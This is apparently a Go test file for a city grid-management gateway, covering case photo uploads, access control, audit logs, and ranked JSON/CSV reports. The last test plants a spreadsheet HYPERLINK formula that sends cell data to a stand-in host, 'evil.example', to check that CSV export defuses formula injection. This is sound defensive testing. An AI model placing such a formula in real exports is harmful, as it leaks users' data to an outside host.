package gateway

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"image"
	"image/jpeg"
	"mime/multipart"
	"net/textproto"
	"strings"
	"testing"
	"time"

	"sharpeyes/configs"
)

// TestCasePhotos: a grid worker attaches photos to a case of their cell;
// the photos come back as sent to those who may see the case and to no
// one else; a photo that is not one, a forged type or an oversized file
// refuses the whole request and leaves nothing behind.
func TestCasePhotos(t *testing.T) {
	g, admin := demoStreet(t)
	a, _ := g.Grids().Get(cellA)
	worker := signIn(t, admin.base, a.Roles.GridWorker, addUser(t, admin, a.Roles.GridWorker, "grid_worker", nil, ""))
	stranger := signIn(t, admin.base, "other-worker", addUser(t, admin, "other-worker", "grid_worker", []string{cellB}, ""))
	code, cs := worker.json("POST", "/api/v1/cases", map[string]any{"source": "grid-report", "category": "environment", "title": "井盖缺失", "grid": cellA})
	if code != 201 {
		t.Fatalf("case: %d %v", code, cs)
	}
	id := cs["id"].(string)
	var jpg bytes.Buffer
	_ = jpeg.Encode(&jpg, image.NewRGBA(image.Rect(0, 0, 80, 60)), nil)
	form := func(files ...[3]string) (string, []byte) { // name, content type, body
		var b bytes.Buffer
		w := multipart.NewWriter(&b)
		_ = w.WriteField("note", "现场照片")
		for _, f := range files {
			h := textproto.MIMEHeader{}
			h.Set("Content-Disposition", `form-data; name="file"; filename="`+f[0]+`"`)
			h.Set("Content-Type", f[1])
			pw, _ := w.CreatePart(h)
			pw.Write([]byte(f[2]))
		}
		w.Close()
		return w.FormDataContentType(), b.Bytes()
	}
	list := func(p *person) int {
		code, raw := p.do("GET", "/api/v1/cases/"+id+"/attachments", "", nil)
		var out struct {
			Items []any `json:"items"`
		}
		if code != 200 || json.Unmarshal(raw, &out) != nil {
			t.Fatalf("list: %d %s", code, raw)
		}
		return len(out.Items)
	}
	good := [3]string{"before.jpg", "image/jpeg", jpg.String()}
	for _, bad := range []struct {
		name  string
		files [][3]string
		code  int
		want  string
	}{
		{"not a photo", [][3]string{good, {"notes.jpg", "image/jpeg", "<html>hello</html>"}}, 415, "notes.jpg"},
		{"forged type", [][3]string{{"x.png", "image/png", jpg.String()}}, 415, "does not match"},
		{"too large", [][3]string{good, {"big.jpg", "image/jpeg", jpg.String() + strings.Repeat("x", 10<<20)}}, 413, "big.jpg"},
	} {
		ct, body := form(bad.files...)
		code, raw := worker.do("POST", "/api/v1/cases/"+id+"/attachments", ct, body)
		if code != bad.code || !strings.Contains(string(raw), bad.want) {
			t.Errorf("%s: %d %s, want %d naming %q", bad.name, code, raw, bad.code, bad.want)
		}
	}
	if n := list(worker); n != 0 {
		t.Fatalf("refused requests left %d photos", n)
	}
	ct, body := form(good, [3]string{"after.jpg", "image/jpeg", jpg.String()})
	if code, raw := worker.do("POST", "/api/v1/cases/"+id+"/attachments", ct, body); code != 201 {
		t.Fatalf("attach: %d %s", code, raw)
	}
	if n := list(worker); n != 2 {
		t.Fatalf("%d photos, want 2", n)
	}
	_, raw := worker.do("GET", "/api/v1/cases/"+id+"/attachments", "", nil)
	var first struct {
		Items []map[string]any `json:"items"`
	}
	_ = json.Unmarshal(raw, &first)
	attID := first.Items[0]["id"].(string)
	if first.Items[0]["uploaded_by"] != a.Roles.GridWorker {
		t.Errorf("uploaded_by %v", first.Items[0]["uploaded_by"])
	}
	code, pic := worker.do("GET", "/api/v1/cases/"+id+"/attachments/"+attID, "", nil)
	if code != 200 || !bytes.Equal(pic, jpg.Bytes()) {
		t.Fatalf("photo back: %d, %d bytes", code, len(pic))
	}
	if code, _ := stranger.do("GET", "/api/v1/cases/"+id+"/attachments/"+attID, "", nil); code != 404 {
		t.Errorf("another cell's worker reads the photo: %d", code)
	}
	if code, _ := stranger.do("POST", "/api/v1/cases/"+id+"/attachments", ct, body); code != 404 {
		t.Errorf("another cell's worker attaches: %d", code)
	}
	_, audit := admin.json("GET", "/api/v1/cases/"+id+"/audit", nil)
	rows := audit["items"].([]any)
	if last := rows[len(rows)-1].(map[string]any); last["action"] != "attach" || last["actor"] != a.Roles.GridWorker {
		t.Errorf("audit: %v", last)
	}
}

// TestReportsRankGridsAndFollowJurisdiction: the day's review ranks the
// grids by resolution, as JSON and CSV, and a grid worker sees their cell's
// line alone.
func TestReportsRankGridsAndFollowJurisdiction(t *testing.T) {
	g, admin := demoStreet(t)
	file := func(grid, category string, close bool) {
		code, cs := admin.json("POST", "/api/v1/cases", map[string]any{"source": "hotline", "category": category, "title": "t", "grid": grid})
		if code != 201 {
			t.Fatalf("case: %d %v", code, cs)
		}
		if !close {
			return
		}
		for _, step := range []string{"register", "resolve", "verify"} {
			if code, out := admin.json("POST", "/api/v1/cases/"+cs["id"].(string)+"/"+step, map[string]any{}); code != 200 {
				t.Fatalf("%s: %d %v", step, code, out)
			}
		}
	}
	file(cellA, "environment", true)
	file(cellA, "environment", false)
	file(cellA, "public_order", false)
	file(cellB, "fire_safety", true)
	code, out := admin.json("GET", "/api/v1/reports?period=day", nil)
	if code != 200 {
		t.Fatalf("report: %d %v", code, out)
	}
	// Lines with cases come first; the cells with cameras and no case
	// follow with their online rate.
	var items []any
	for _, it := range out["items"].([]any) {
		if it.(map[string]any)["received"].(float64) > 0 {
			items = append(items, it)
		} else if _, ok := it.(map[string]any)["online_rate"]; !ok {
			t.Fatalf("a line without the online rate: %v", it)
		}
	}
	if len(items) != 2 {
		t.Fatalf("report lines: %v", items)
	}
	top, second := items[0].(map[string]any), items[1].(map[string]any)
	if top["grid"] != cellB || top["rank"] != float64(1) || top["closed_on_time"] != float64(1) ||
		second["grid"] != cellA || second["received"] != float64(3) || second["top_categories"].([]any)[0] != "environment" {
		t.Fatalf("ranking: %v", items)
	}
	code, csvBody := admin.do("GET", "/api/v1/reports?period=week&format=csv", "", nil, true)
	lines := strings.Split(strings.TrimSpace(strings.TrimPrefix(string(csvBody), "\ufeff")), "\n")
	if code != 200 || len(lines) < 3 || !strings.HasPrefix(lines[0], "rank,grid,name,received") || !strings.HasPrefix(lines[1], "1,"+cellB+",") {
		t.Fatalf("CSV: %d %q", code, csvBody)
	}
	a, _ := g.Grids().Get(cellA)
	worker := signIn(t, admin.base, a.Roles.GridWorker, addUser(t, admin, a.Roles.GridWorker, "grid_worker", nil, ""))
	_, mine := worker.json("GET", "/api/v1/reports?period=month", nil)
	if its := mine["items"].([]any); len(its) != 1 || its[0].(map[string]any)["grid"] != cellA {
		t.Fatalf("the worker's review: %v", mine)
	}
	for _, bad := range []string{"period=year", "date=yesterday", "format=pdf", "date=9999-01-01", "date=1970-01-01",
		"date=" + time.Now().AddDate(0, 0, 3).Format(time.DateOnly)} {
		if code, _ := admin.json("GET", "/api/v1/reports?"+bad, nil); code != 400 {
			t.Errorf("%s: %d", bad, code)
		}
	}
}

// TestReportCSVDefusesFormulas: a cell whose name starts like a
// spreadsheet formula is exported as text.
func TestReportCSVDefusesFormulas(t *testing.T) {
	_, admin := demoStreet(t)
	var geo map[string]any
	if err := json.Unmarshal(configs.DemoGrids, &geo); err != nil {
		t.Fatal(err)
	}
	for _, f := range geo["features"].([]any) {
		props := f.(map[string]any)["properties"].(map[string]any)
		if props["code"] == cellA {
			props["name"] = `=HYPERLINK("http://evil.example/?"&A1,"点击")`
		}
	}
	b, _ := json.Marshal(geo)
	if code, raw := admin.do("POST", "/api/v1/grids/import", "application/geo+json", b, true); code != 200 {
		t.Fatalf("grids: %d %s", code, raw)
	}
	if code, out := admin.json("POST", "/api/v1/cases", map[string]any{"source": "hotline", "category": "environment", "title": "+1 SUM(A1)", "grid": cellA}); code != 201 {
		t.Fatalf("case: %d %v", code, out)
	}
	code, body := admin.do("GET", "/api/v1/reports?period=day&format=csv", "", nil, true)
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(body), "\ufeff"))).ReadAll()
	if code != 200 || err != nil || len(rows) < 2 {
		t.Fatalf("CSV: %d %v %q", code, err, body)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("CSV cell %q starts like a formula", cell)
			}
		}
	}
	if rows[1][2] != `'=HYPERLINK("http://evil.example/?"&A1,"点击")` {
		t.Errorf("the cell name exported as %q, want it kept as text behind an apostrophe", rows[1][2])
	}
}
